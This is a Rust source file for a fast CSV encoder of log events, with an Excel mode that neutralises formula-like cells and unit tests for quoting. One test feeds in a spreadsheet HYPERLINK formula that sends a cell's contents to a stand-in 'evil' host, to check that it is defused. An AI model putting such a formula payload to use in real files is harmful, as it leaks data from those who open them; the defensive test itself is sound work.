//! RFC 4180 CSV with a header row; `extra` is a JSON text cell.
//!
//! Hand-written rather than the csv crate's `Writer`: writing the same
//! 500,000 canonical rows, with identical bytes, its quoting takes 0.70–0.75×
//! the crate's time (157–165 ms against 218–224 ms, best of 9;
//! `bench/csv_writer`). It also writes straight into the batch buffers the
//! worker threads render (`read::parallel`), with the quoting decided once
//! per line (`PlainLine`) instead of once per cell.

use std::io::Write;

use super::{COLUMNS, CsvWriter, Encoder, WriteOptions, push_extra, push_u64};
use crate::event::Event;

/// Writes events as canonical CSV.
#[derive(Clone)]
pub struct CsvEncoder {
    options: WriteOptions,
    scratch: Vec<u8>,
    /// The current input's path, already encoded as a cell.
    source: (String, Vec<u8>),
}

impl CsvWriter {
    pub fn new(out: Box<dyn Write + Send>, options: WriteOptions) -> Self {
        Self::with_encoder(
            out,
            CsvEncoder {
                options,
                scratch: Vec::new(),
                source: (String::new(), Vec::new()),
            },
        )
    }
}

fn end_row(b: &mut Vec<u8>, excel: bool) {
    b.extend_from_slice(if excel { b"\r\n" } else { b"\n" });
}

/// Whether a cell must be quoted (RFC 4180: `,` `"` CR LF). Cells are
/// short, so eight bytes at a time in a register (the classic "has zero
/// byte" trick) beats both a byte loop and a vectorised search's call cost.
fn needs_quotes(value: &[u8]) -> bool {
    const ONES: u64 = 0x0101_0101_0101_0101;
    const HIGHS: u64 = 0x8080_8080_8080_8080;
    let has = |w: u64, c: u8| {
        let x = w ^ (ONES * u64::from(c));
        x.wrapping_sub(ONES) & !x & HIGHS != 0
    };
    let mut chunks = value.chunks_exact(8);
    for chunk in &mut chunks {
        let w = u64::from_le_bytes(chunk.try_into().expect("8 bytes"));
        if has(w, b',') | has(w, b'"') | has(w, b'\n') | has(w, b'\r') {
            return true;
        }
    }
    chunks
        .remainder()
        .iter()
        .any(|&c| matches!(c, b',' | b'"' | b'\n' | b'\r'))
}

/// A cell known to hold nothing that needs quoting (names from closed lists).
fn known(b: &mut Vec<u8>, value: &str) {
    b.push(b',');
    b.extend_from_slice(value.as_bytes());
}

/// Whether Excel (and other spreadsheets) would run the cell as a formula:
/// it starts with `=`, `+`, `-`, `@`, a tab or a CR (OWASP's list).
fn formula_like(value: &[u8]) -> bool {
    matches!(
        value.first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    )
}

/// A cell for `--excel`: one that a spreadsheet would run as a formula
/// gets a leading `'`, which Excel shows as text and does not display.
fn excel_cell(b: &mut Vec<u8>, value: &[u8], scratch: &mut Vec<u8>) {
    if formula_like(value) {
        scratch.clear();
        scratch.push(b'\'');
        scratch.extend_from_slice(value);
        cell(b, scratch);
    } else {
        cell(b, value);
    }
}

/// A cell, quoted only when it must be (RFC 4180).
pub fn cell(b: &mut Vec<u8>, value: &[u8]) {
    if !needs_quotes(value) {
        b.extend_from_slice(value);
        return;
    }
    b.push(b'"');
    let mut start = 0;
    for i in memchr::memchr_iter(b'"', value) {
        b.extend_from_slice(&value[start..=i]);
        b.push(b'"');
        start = i + 1;
    }
    b.extend_from_slice(&value[start..]);
    b.push(b'"');
}

/// The event's line, checked for quoting once: most cells are slices of
/// it, and a slice of a line that needs no quotes needs none either.
struct PlainLine {
    start: usize,
    end: usize,
}

impl PlainLine {
    fn of(raw: &str) -> Option<PlainLine> {
        let start = raw.as_ptr() as usize;
        (!needs_quotes(raw.as_bytes())).then_some(PlainLine {
            start,
            end: start + raw.len(),
        })
    }

    fn holds(plain: &Option<PlainLine>, v: &str) -> bool {
        let p = v.as_ptr() as usize;
        plain
            .as_ref()
            .is_some_and(|l| p >= l.start && p + v.len() <= l.end)
    }
}

/// How a row writes its text cells.
struct Cells<'a> {
    plain: Option<PlainLine>,
    /// `--excel`: the scratch buffer for guarded cells.
    excel: Option<&'a mut Vec<u8>>,
}

impl Cells<'_> {
    fn opt(&mut self, b: &mut Vec<u8>, value: Option<&str>) {
        b.push(b',');
        let Some(v) = value else {
            return;
        };
        match self.excel.as_deref_mut() {
            Some(scratch) => excel_cell(b, v.as_bytes(), scratch),
            None if PlainLine::holds(&self.plain, v) => b.extend_from_slice(v.as_bytes()),
            None => cell(b, v.as_bytes()),
        }
    }
}

impl Encoder for CsvEncoder {
    fn header(&self, b: &mut Vec<u8>) {
        if self.options.excel {
            b.extend_from_slice("\u{feff}".as_bytes());
        }
        let n = if self.options.raw {
            COLUMNS.len()
        } else {
            COLUMNS.len() - 1
        };
        b.extend_from_slice(COLUMNS[..n].join(",").as_bytes());
        end_row(b, self.options.excel);
    }

    fn encode(&mut self, e: &Event<'_>, b: &mut Vec<u8>) {
        if self.source.0 != e.source {
            self.source.0 = e.source.to_string();
            self.source.1.clear();
            if self.options.excel {
                excel_cell(&mut self.source.1, e.source.as_bytes(), &mut self.scratch);
            } else {
                cell(&mut self.source.1, e.source.as_bytes());
            }
        }
        let mut guard = Vec::new();
        let mut cells = Cells {
            plain: PlainLine::of(e.raw),
            excel: self.options.excel.then_some(&mut guard),
        };
        b.extend_from_slice(&self.source.1);
        b.push(b',');
        push_u64(b, e.line);
        known(b, e.format.name());
        known(b, e.kind.name());
        known(b, e.xslm().unwrap_or(""));
        b.push(b',');
        if let Some(t) = &e.time {
            t.write_datetime(b);
        }
        b.push(b',');
        if let Some(t) = &e.time {
            t.write_time_of_day(b);
        }
        known(b, e.time_source.name());
        cells.opt(b, e.server);
        cells.opt(b, e.daemon);
        cells.opt(b, e.feature);
        cells.opt(b, e.version);
        cells.opt(b, e.user);
        cells.opt(b, e.host);
        b.push(b',');
        if let Some(n) = e.count {
            push_u64(b, n);
        }
        cells.opt(b, e.handle);
        cells.opt(b, e.reason);
        cells.opt(b, e.code);
        b.push(b',');
        if e.extra.is_empty() {
            b.extend_from_slice(b"{}");
        } else {
            self.scratch.clear();
            push_extra(&mut self.scratch, &e.extra);
            cell(b, &self.scratch);
        }
        if self.options.raw {
            cells.opt(b, e.has_raw.then_some(e.raw));
        }
        end_row(b, self.options.excel);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_is_detected_at_every_position() {
        for len in 0..20 {
            for pos in 0..len {
                for special in [b',', b'"', b'\n', b'\r'] {
                    let mut v = vec![b'a'; len];
                    v[pos] = special;
                    assert!(needs_quotes(&v), "{len} {pos} {special}");
                }
            }
            assert!(!needs_quotes(&vec![b'a'; len]));
        }
        assert!(!needs_quotes("Mª Cruz@é-+ \t;".as_bytes()));
    }

    #[test]
    fn excel_cells_never_start_a_formula() {
        let mut scratch = Vec::new();
        for (value, written) in [
            (
                "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
                "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\"",
            ),
            ("+1", "'+1"),
            ("-5,346", "\"'-5,346\""),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("alice", "alice"),
            ("a=b", "a=b"),
        ] {
            let mut b = Vec::new();
            excel_cell(&mut b, value.as_bytes(), &mut scratch);
            assert_eq!(String::from_utf8(b).unwrap(), written, "{value}");
        }
    }

    #[test]
    fn cells_quote_only_when_needed() {
        let mut b = Vec::new();
        cell(&mut b, b"plain");
        b.push(b'|');
        cell(&mut b, b"a,\"b\"");
        b.push(b'|');
        cell(&mut b, b"line\r\nbreak");
        assert_eq!(
            String::from_utf8(b).unwrap(),
            "plain|\"a,\"\"b\"\"\"|\"line\r\nbreak\""
        );
    }
}
